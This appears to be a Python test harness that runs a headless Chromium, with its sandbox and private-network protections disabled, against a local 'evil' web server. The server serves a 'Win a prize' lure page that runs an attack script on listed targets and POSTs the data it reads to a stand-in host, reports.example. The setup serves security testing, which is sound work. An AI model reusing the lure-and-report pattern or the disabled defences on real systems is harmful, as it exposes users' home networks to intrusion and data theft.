"""A real Chromium without a window, and the web server of somebody who means harm."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SCRIPT = Path(__file__).with_name("attack.js")
FLAGS = (
    "--headless",
    "--no-sandbox",  # it shows our own pages only, and root has no sandbox
    "--disable-gpu",
    "--disable-quic",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    # The browser's own help against pages that reach into a home is left out: not all have it.
    "--disable-features=HttpsUpgrades,LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
    "--host-resolver-rules=MAP *.example 127.0.0.1",
)


@dataclass
class Evil:
    """A web server that hands out one page and hears what that page reports."""

    port: int = 0
    page: str = ""
    go: asyncio.Event = field(default_factory=asyncio.Event)
    loaded: asyncio.Event = field(default_factory=asyncio.Event)
    report: asyncio.Future[dict[str, Any]] | None = None
    knocks: list[str] = field(default_factory=list)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            _, path, _ = head.split(" ", 2)
            self.knocks.append(path)
            size = [each for each in head.lower().split("\r\n") if each.startswith("content-len")]
            body = await reader.readexactly(int(size[0].partition(":")[2]) if size else 0)
            writer.write(await self._reply(path, body))
            await writer.drain()
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()

    async def _reply(self, path: str, body: bytes) -> bytes:
        kind, text = "text/html", self.page
        if path == "/report":
            assert self.report is not None
            self.report.set_result(json.loads(body))
        elif path == "/attack.js":
            kind, text = "text/javascript", SCRIPT.read_text()
        elif path == "/go":
            self.loaded.set()
            await self.go.wait()
        head = f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {len(text.encode())}"
        return (
            f"{head}\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\r\n{text}".encode()
        )


@contextlib.asynccontextmanager
async def evil(page: str = "") -> AsyncIterator[Evil]:
    site = Evil(page=page)
    site.report = asyncio.get_running_loop().create_future()
    server = await asyncio.start_server(site.answer, "127.0.0.1", 0)
    site.port = server.sockets[0].getsockname()[1]
    try:
        yield site
    finally:
        site.go.set()
        server.close()
        await server.wait_closed()


@contextlib.asynccontextmanager
async def chromium(folder: Path, url: str) -> AsyncIterator[None]:
    """Show `url` until the context ends."""
    process = await asyncio.create_subprocess_exec(
        "chromium",
        *FLAGS,
        f"--user-data-dir={folder / 'profile'}",
        url,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        env={"HOME": str(folder), "PATH": "/usr/bin:/bin"},
    )
    try:
        yield
    finally:
        process.terminate()
        try:
            async with asyncio.timeout(10):
                await process.wait()
        except TimeoutError:
            process.kill()
            await process.wait()


def page(reports: int, key: str, targets: list[str], then: str = "") -> str:
    """Return a page that waits for the word, attacks `targets`, and reports to port `reports`."""
    home = f"http://reports.example:{reports}"
    return f"""<!doctype html><meta charset="utf-8"><title>Win a prize</title><body>
<script>const KEY = {json.dumps(key)};</script>
<script src="{home}/attack.js"></script>
<script>
(async () => {{
  await fetch("{home}/go");
  let count = 0;
  for (const base of {json.dumps(targets)}) count += await attack(base || location.origin);
  {then}
  await fetch("{home}/report", {{ method: "POST", body: JSON.stringify({{ count, reads }}) }});
}})();
</script></body>"""
